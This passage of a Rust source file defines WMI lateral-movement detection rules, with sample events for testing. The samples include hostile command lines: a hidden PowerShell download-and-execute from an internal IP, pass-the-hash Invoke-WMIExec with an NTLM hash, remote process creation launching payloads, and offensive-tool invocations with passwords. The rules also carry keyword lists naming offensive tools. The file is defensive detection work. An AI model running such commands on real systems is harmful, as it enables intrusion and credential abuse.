//! WMI: each rule's entry, with its matcher beside it where a condition
//! cannot say what it needs.

use std::sync::LazyLock;

use regex::Regex;

use super::lists::LOLBAS;
use super::{
    any, remote, Basis, Built, Cond, Contrast, Custom, FromPublic, Hit, Level, Match, Origin,
    Positive, Rule, Test, Yield,
};
use super::{PSOP, SECURITY, SYSMON, WMI};
use crate::detect::ctx::Ctx;
use crate::detect::finding::{Artefact, Outcome, Side, Technique};
use crate::detect::targets::{command_line_targets, is_loopback};
use crate::event::kind::{Class, Kind};
use crate::event::F;

/// The family's rules, in the order their AlertTypes are listed.
pub(super) const ALL: &[Rule] = &[
    WMI_REMOTEEXEC_SOURCE_CREATE,
    WMI_REMOTEEXEC_SOURCE_QUERY,
    WMI_REMOTEEXEC_PS_CREATE,
    WMI_REMOTEEXEC_PS_CIM,
    WMI_REMOTEEXEC_PS_QUERY,
    WMI_INVOKE_WMIEXEC,
    WMI_OFFENSIVE_TOOL,
    WMI_REMOTEEXEC_CHILD,
    WMI_REMOTEEXEC_CHILD_LOLBAS,
    WMI_IMPACKET_WMIEXEC,
    WMI_TOKEN_ACCESS,
    WMI_PROCESS_LOGON,
    WMI_DLL_HIJACK,
    WMI_SUBSCRIPTION_PERMANENT_CONSUMER,
    WMI_SUBSCRIPTION_PERMANENT_BINDING,
    WMI_SUBSCRIPTION_TEMPORARY,
    WMI_SUBSCRIPTION_CREATED,
    WMI_ACTIVITY_CONTEXT,
    WMI_CONSUMER_EXEC,
    WMI_MOF_COMPILE,
    WMI_SCHEDULED_JOB,
    WMI_SCHEDULED_JOB_ENABLED,
    WMI_REGISTRY_WRITE,
];

const WMI_REMOTEEXEC_SOURCE_CREATE: Rule = Rule {
    id: "wmi_remoteexec_source_create",
    alert_type: "WMI_RemoteExec_Source",
    description: "wmic /node: process call create (remote process creation over WMI)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 70,
    confidence: 70,
    basis: Basis::Escu("C1"),
    message: "Remote WMI process creation from $risk_object$ on $target_host$",
    when: Match::Custom(Custom {
        classes: &[Class::Process],
        needles: &["/node:", "-node:", "wmic", "call create", "call  create"],
        needs_keyword: true,
        f: m_wmic_create,
    }),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine" = "wmic /node:\"10.0.1.33\" /user:corp\\alice process call create \"cmd /c whoami\""), targets: ["10.0.1.33"], threats: [("wmic.exe", "process_name")]),
    ],
    negatives: &[
        ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "CommandLine" = "wmic /node:localhost process call create calc"
        ),
        ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "CommandLine" = "wmic process list /FORMAT:\"https://example.org/x.xsl\""
        ),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("7773b877"),
            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmic_remote_execution/7773b877-5abb-4a3e-b9c9-fd0369b59b00.json", commit: "d8fbaea424bdd0bbb684ff471902b31f00b89c1a" },
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /user:DOMAIN\\Administrator /password:P@ssw0rd1 /node:17.12.0.1 process call create notepad.exe", "CurrentDirectory" = "C:\\WINDOWS\\system32\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine" = "\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ep bypass", "ParentUser" = "swachchhanda\\xodih"),
            targets: &["17.12.0.1"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /node:localhost process call create notepad.exe", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("526be59f"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03 process call create notepad.exe", "CurrentDirectory" = "C:\\Users\\xodih\\AppData\\Local\\Temp\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"cmd.exe\" /c wmic process call create notepad.exe", "ParentUser" = "swachchhanda\\xodih"),
            targets: &["srv03"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic  process list brief", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("3c89a1e8"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03 process call create \"rundll32.exe \\\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\calc.dll\\\" StartW\"", "CurrentDirectory" = "C:\\Users\\xodih\\AppData\\Local\\Temp\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"cmd.exe\" /c wmic /node:127.0.0.1 process call create \"rundll32.exe \\\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\calc.dll\\\" StartW\"", "ParentUser" = "swachchhanda\\xodih"),
            targets: &["srv03"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03.corp.example process call create \"notepad.exe\"", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Broader("ours reports any remote process create, whatever its payload"))),
        },
        FromPublic {
            origin: Origin::Escu("C1"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:SRV03 process call create \"cmd.exe /c ipconfig > C:\\Windows\\Temp\\out.txt\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
            targets: &["SRV03"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic process call create \"notepad.exe\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("C3"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:10.0.1.33 /user:CORP\\alice process call create \"rundll32.exe C:\\Users\\Public\\a.dll,Start\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
            targets: &["10.0.1.33"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:10.0.1.33 process get name,processid", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
        },
    ],
};

fn m_wmic_create(c: &Ctx<'_>) -> Option<Hit> {
    wmic_creates(c).then(|| wmic_hit(c))?
}

const WMI_REMOTEEXEC_SOURCE_QUERY: Rule = Rule {
    id: "wmi_remoteexec_source_query",
    alert_type: "WMI_RemoteExec_Source",
    description: "wmic /node: against another host (remote WMI query)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 60,
    confidence: 60,
    basis: Basis::Escu("C2"),
    message: "Remote WMI query from $risk_object$ to $target_host$",
    when: Match::Custom(Custom {
        classes: &[Class::Process],
        needles: &["/node:", "-node:", "wmic", "call create", "call  create"],
        needs_keyword: true,
        f: m_wmic_query,
    }),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine" = "wmic /node:srv1,srv2 os get caption"), targets: ["srv1", "srv2"], threats: [("wmic.exe", "process_name")]),
    ],
    negatives: &[
        ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "CommandLine" = "wmic os get caption"
        ),
        ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "CommandLine" = "wmic /node:srv1 process call  create calc"
        ),
    ],
    public: &[FromPublic {
        origin: Origin::Escu("C2"),
        built: Built::Definition,
        event: ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "OriginalFileName" = "wmic.exe",
            "CommandLine" = "wmic /node:\"SRV03\" service where (caption like \"%Spooler%\")",
            "ParentImage" = "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"",
            "User" = "CORP\\alice"
        ),
        targets: &["SRV03"],
        contrast: Some((
            ex!(
                SYSMON,
                "1",
                "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "OriginalFileName" = "wmic.exe",
                "CommandLine" = "wmic service where (caption like \"%Spooler%\")",
                "ParentImage" = "C:\\Windows\\System32\\cmd.exe",
                "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"",
                "User" = "CORP\\alice"
            ),
            Contrast::Filtered,
        )),
    }],
};

fn m_wmic_query(c: &Ctx<'_>) -> Option<Hit> {
    (!wmic_creates(c)).then(|| wmic_hit(c))?
}

const WMI_REMOTEEXEC_PS_CREATE: Rule = Rule {
    id: "wmi_remoteexec_ps_create",
    alert_type: "WMI_RemoteExec_PS",
    description: "Invoke-WmiMethod Win32_Process Create against another computer",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 90,
    confidence: 70,
    basis: Basis::Escu("C4"),
    message: "Remote WMI process creation with PowerShell from $risk_object$ on $target_host$",
    when: Match::Custom(Custom {
        classes: &[Class::ScriptBlock, Class::PsModule, Class::Process],
        needles: &["invoke-wmimethod", "iwmi ", "-computername"],
        needs_keyword: true,
        f: m_ps_wmi_create,
    }),
    positives: &[
        pos!(ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -ComputerName srv03 -Class Win32_Process -Name Create -ArgumentList calc"), targets: ["srv03"]),
        pos!(ex!(PSOP, "4103", "Payload" = "CommandInvocation(Invoke-WmiMethod): \"Invoke-WmiMethod\"\r\nParameterBinding(Invoke-WmiMethod): name=\"ComputerName\"; value=\"srv03\"\r\nParameterBinding(Invoke-WmiMethod): name=\"Class\"; value=\"Win32_Process\"\r\nParameterBinding(Invoke-WmiMethod): name=\"Name\"; value=\"Create\"\r\nParameterBinding(Invoke-WmiMethod): name=\"ArgumentList\"; value=\"calc\"\r\n"), targets: ["srv03"]),
    ],
    negatives: &[ex!(
        PSOP,
        "4104",
        "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc"
    )],
    public: &[
        FromPublic {
            origin: Origin::Escu("C4"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"Invoke-WmiMethod -CN SRV03 -Class Win32_Process -Name create -ArgumentList 'cmd.exe /c whoami'\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
            targets: &["SRV03"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"Invoke-WmiMethod -Class Win32_Process -Name create -ArgumentList 'calc.exe'\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("C5"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -ComputerName SRV03 -Class Win32_Process -Name create -ArgumentList 'cmd.exe /c whoami'"),
            targets: &["SRV03"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process -Name create -ArgumentList 'calc.exe'"), Contrast::Filtered)),
        },
    ],
};

fn m_ps_wmi_create(c: &Ctx<'_>) -> Option<Hit> {
    ps_remote_wmi(
        c,
        &["invoke-wmimethod", "iwmi "],
        &["win32_process", "create"],
    )
}

const WMI_REMOTEEXEC_PS_CIM: Rule = Rule {
    id: "wmi_remoteexec_ps_cim",
    alert_type: "WMI_RemoteExec_PS",
    description:
        "CIM session or method against another computer (Invoke-CimMethod / New-CimSession)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 50,
    confidence: 50,
    basis: Basis::Escu("C11"),
    message: "Remote CIM session from $risk_object$ to $target_host$",
    when: Match::Custom(Custom {
        classes: &[Class::ScriptBlock, Class::PsModule, Class::Process],
        needles: &["invoke-cimmethod", "new-cimsession", "-computername"],
        needs_keyword: true,
        f: m_ps_wmi_cim,
    }),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine" = "powershell New-CimSession -ComputerName srv03"), targets: ["srv03"]),
        pos!(ex!(PSOP, "4103", "Payload" = "CommandInvocation(New-CimSession): \"New-CimSession\"\r\nParameterBinding(New-CimSession): name=\"ComputerName\"; value=\"srv03, srv04\"\r\n"), targets: ["srv03", "srv04"]),
    ],
    negatives: &[ex!(
        SYSMON,
        "1",
        "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine" = "powershell New-CimSession -ComputerName localhost"
    )],
    public: &[
        FromPublic {
            origin: Origin::Escu("C11"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "$s = New-CimSession -ComputerName SRV03 -Credential $cred; Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}"),
            targets: &["SRV03"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimSession | Remove-CimSession"), Contrast::Filtered)),
        },
    ],
};

fn m_ps_wmi_cim(c: &Ctx<'_>) -> Option<Hit> {
    ps_remote_wmi(c, &["invoke-cimmethod", "new-cimsession"], &[])
}

const WMI_REMOTEEXEC_PS_QUERY: Rule = Rule {
    id: "wmi_remoteexec_ps_query",
    alert_type: "WMI_RemoteExec_PS",
    description:
        "Remote WMI/CIM query from PowerShell (Get-WmiObject / Get-CimInstance -ComputerName)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 30,
    confidence: 50,
    basis: Basis::Escu("C12"),
    message: "Remote WMI query with PowerShell from $risk_object$ to $target_host$",
    when: Match::Custom(Custom {
        classes: &[Class::ScriptBlock, Class::PsModule, Class::Process],
        needles: &["get-wmiobject", "get-ciminstance", "gwmi ", "-computername"],
        needs_keyword: true,
        f: m_ps_wmi_query,
    }),
    positives: &[
        pos!(ex!(PSOP, "4104", "ScriptBlockText" = "Get-WmiObject Win32_OperatingSystem -ComputerName srv03"), targets: ["srv03"]),
        pos!(ex!(PSOP, "4103", "Payload" = "CommandInvocation(Get-WmiObject): \"Get-WmiObject\"\r\nParameterBinding(Get-WmiObject): name=\"Class\"; value=\"Win32_OperatingSystem\"\r\nParameterBinding(Get-WmiObject): name=\"ComputerName\"; value=\"srv03\"\r\n"), targets: ["srv03"]),
    ],
    negatives: &[
        ex!(PSOP, "4104", "ScriptBlockText" = "Get-WmiObject Win32_OperatingSystem"),
        // Mordor's Empire agent on WORKSTATION5: a local query (4103).
        ex!(PSOP, "4103", "Payload" = "CommandInvocation(Get-WmiObject): \"Get-WmiObject\"\r\nParameterBinding(Get-WmiObject): name=\"Class\"; value=\"WIn32_OPeraTiNgSYstEM\"\r\n"),
    ],
    public: &[
        FromPublic {
            origin: Origin::Escu("C12"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName SRV03"),
            targets: &["SRV03"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -ClassName Win32_OperatingSystem"), Contrast::Filtered)),
        },
    ],
};

fn m_ps_wmi_query(c: &Ctx<'_>) -> Option<Hit> {
    ps_remote_wmi(c, &["get-wmiobject", "get-ciminstance", "gwmi "], &[])
}

const WMI_INVOKE_WMIEXEC: Rule = Rule {
    id: "wmi_invoke_wmiexec",
    alert_type: "WMI_OffensiveTool",
    description: "Invoke-WMIExec (pass-the-hash WMI execution)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 100,
    confidence: 100,
    basis: Basis::Escu("C10"),
    message: "Invoke-WMIExec run on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
        text_any: &["invoke-wmiexec"],
        yields: Yield::Tool,
        ..Cond::ANY
    }),
    positives: &[pos!(ex!(
        PSOP,
        "4104",
        "ScriptBlockText" = "function Invoke-WMIExec { param($Target) }"
    ))],
    negatives: &[ex!(
        PSOP,
        "4104",
        "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process"
    )],
    public: &[
        FromPublic {
            origin: Origin::Escu("C10"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WMIExec -Target 10.0.1.33 -Domain corp.example -Username alice -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command \"cmd.exe /c whoami\" -Verbose"),
            targets: &["10.0.1.33"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-SMBExec -Target 10.0.1.33 -Domain corp.example -Username alice -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command \"cmd.exe /c whoami\" -Verbose"), Contrast::Filtered)),
        },
    ],
};

const WMI_OFFENSIVE_TOOL: Rule = Rule {
    id: "wmi_offensive_tool",
    alert_type: "WMI_OffensiveTool",
    description: "Offensive WMI lateral-movement tooling (WMImplant, SharpWMI, SharpMove, CrackMapExec/NetExec, wmiexec.py)",
    mitre: "T1047",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 70,
    confidence: 70,
    basis: Basis::Sigma("7638e5fe", Level::High),
    message: "Offensive WMI tooling on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
            text_any: &["wmimplant", "sharpwmi", "sharpmove", "crackmapexec", "netexec", "nxc.exe", "wmiexec.py", "invoke-wmilm"],
            text_none: &["invoke-wmiexec"],
            yields: Yield::Tool,
            ..Cond::ANY
        },
        // The program itself, whatever its command line says (Sigma
        // 7638e5fe, 055fb54c: `nxc winrm …`, a renamed SharpMove).
        Cond {
            kinds: &[Kind::ProcessCreate],
            image: &["nxc.exe", "netexec.exe", "crackmapexec.exe", "sharpmove.exe", "sharpwmi.exe"],
            image_or_original: true,
            yields: Yield::Tool,
            ..Cond::ANY
        },
    ]),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Users\\a\\SharpWMI.exe", "CommandLine" = "SharpWMI.exe action=exec computername=srv03 command=calc"), targets: ["srv03"], threats: [("sharpwmi.exe", "process_name")]),
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Tools\\nxc.exe", "CommandLine" = "nxc winrm 10.0.1.33 -u admin -p x -x whoami"), targets: ["10.0.1.33"], threats: [("nxc.exe", "process_name")]),
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Users\\a\\m.exe", "OriginalFileName" = "SharpMove.exe", "CommandLine" = "m.exe action=query computername=srv03 query=\"select * from win32_process\""), targets: ["srv03"], threats: [("m.exe", "process_name")]),
    ],
    negatives: &[ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine" = "wmic os get caption")],
    public: &[
        FromPublic {
            origin: Origin::Sigma("7638e5fe"),
            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_hktl_netexec/7638e5fe-600c-4289-a968-f49dd537ec7d.json", commit: "3b20451a93aa7c534853489afe2318bed325ead6" },
            event: ex!(SYSMON, "1", "Image" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "OriginalFileName" = "-", "CommandLine" = "nxc.exe  smb 192.168.1.1 -u admin -p password123", "CurrentDirectory" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x1f153", "IntegrityLevel" = "Medium", "ParentImage" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "ParentCommandLine" = "nxc.exe  smb 192.168.1.1 -u admin -p password123", "ParentUser" = "swachchhanda\\xodih"),
            targets: &["192.168.1.1"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "OriginalFileName" = "-", "CommandLine" = "nxc.exe --version", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Broader("the tool on a command line is the finding, whatever its verb"))),
        },
        FromPublic {
            origin: Origin::Sigma("055fb54c"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Users\\alice\\Downloads\\SharpMove.exe", "OriginalFileName" = "SharpMove.exe", "CommandLine" = "SharpMove.exe action=create computername=srv03.corp.example command=\"C:\\Windows\\Temp\\payload.exe\" amsi=true", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"),
            targets: &["srv03.corp.example"],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Users\\Public\\svc.exe", "OriginalFileName" = "svc.exe", "CommandLine" = "svc.exe action=scm", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("8028c2c3"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WMImplant -Command command_exec -RemoteCommand 'whoami' -Target srv03.corp.example -RemoteUser CORP\\admin -RemotePass P@ss", "ScriptBlockId" = "4c5d6e7f-8a9b-40c1-9d2e-3f4a5b6c7d8e"),
            targets: &["srv03.corp.example"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "$Command = 'command_exec'; Write-Output $Command", "ScriptBlockId" = "5d6e7f8a-9b0c-41d2-8e3f-4a5b6c7d8e9f"), Contrast::Filtered)),
        },
    ],
};

const WMI_REMOTEEXEC_CHILD: Rule = Rule {
    id: "wmi_remoteexec_child",
    alert_type: "WMI_RemoteExec_Child",
    description: "WmiPrvSE.exe started a process outside the SYSTEM logon (remote WMI execution)",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 70,
    confidence: 70,
    basis: Basis::Escu("C6"),
    message: "WmiPrvSE.exe on $risk_object$ spawned $process_name$",
    when: Match::When(Cond {
        kinds: &[Kind::ProcessCreate],
        parent: &["wmiprvse.exe"],
        needs_image: true,
        image_not: &[WMI_CHILD_NOISE, LOLBAS],
        fields_not: WMI_CHILD_SYSTEM,
        yields: Yield::ProcessThreats,
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(SYSMON, "1", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Image" = "C:\\Users\\Public\\grunt.exe", "User" = "THESHIRE\\pgustavo", "LogonId" = "0x9f1c2"), threats: [("grunt.exe", "process_name"), ("wmiprvse.exe", "parent_process_name")]),
        pos!(ex!(SECURITY, "4688", "ParentProcessName" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "NewProcessName" = "C:\\Windows\\System32\\cmd.exe", "TargetUserName" = "alice"), threats: [("cmd.exe", "process_name"), ("wmiprvse.exe", "parent_process_name")]),
    ],
    negatives: &[
        ex!(
            SYSMON,
            "1",
            "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "Image" = "C:\\Windows\\System32\\cmd.exe",
            "User" = "NT AUTHORITY\\SYSTEM",
            "LogonId" = "0x3e7"
        ),
        ex!(
            SYSMON,
            "1",
            "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "Image" = "C:\\Windows\\System32\\WerFault.exe",
            "User" = "CORP\\alice"
        ),
        ex!(
            SYSMON,
            "1",
            "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "Image" = "C:\\Windows\\CCM\\ccmexec.exe",
            "User" = "CORP\\alice"
        ),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("d21374ff"),
            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmiprvse_spawning_process/d21374ff-f574-44a7-9998-4a8c8bf33d7d.json", commit: "e3fde8d654d2940ed88aa7d1b5f1f5f1d7fdde86" },
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\calc.exe", "CommandLine" = "calc", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "MSEDGEWIN10\\IEUser", "LogonId" = "0x413182", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIADAP.EXE", "CommandLine" = "wmiadap.exe /F /T /R", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "NT AUTHORITY\\NETWORK SERVICE", "LogonId" = "0x3e4", "IntegrityLevel" = "System", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("692f0bec"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.1.21/a.ps1')\"", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -c Get-Counter", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiApSrv.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\WmiApSrv.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("058f4380"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "\"cmd.exe\" /c cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\output.txt 2>&1", "CurrentDirectory" = "C:\\Users\\frack113\\AppData\\Local\\Temp\\", "User" = "SigmaCatchVm\\frack113", "LogonId" = "0x8dd1e", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "ParentUser" = "SigmaCatchVm\\frack113"),
